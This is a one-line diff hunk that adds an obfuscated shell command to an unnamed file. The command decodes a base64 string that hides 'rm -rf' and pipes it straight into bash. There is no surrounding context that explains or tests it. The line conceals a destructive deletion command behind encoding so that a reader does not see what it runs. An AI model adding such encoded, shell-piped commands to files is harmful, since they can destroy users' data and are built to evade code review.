@@ -1,0 +1,1 @@
+echo cm0gLXJm | base64 -d | bash
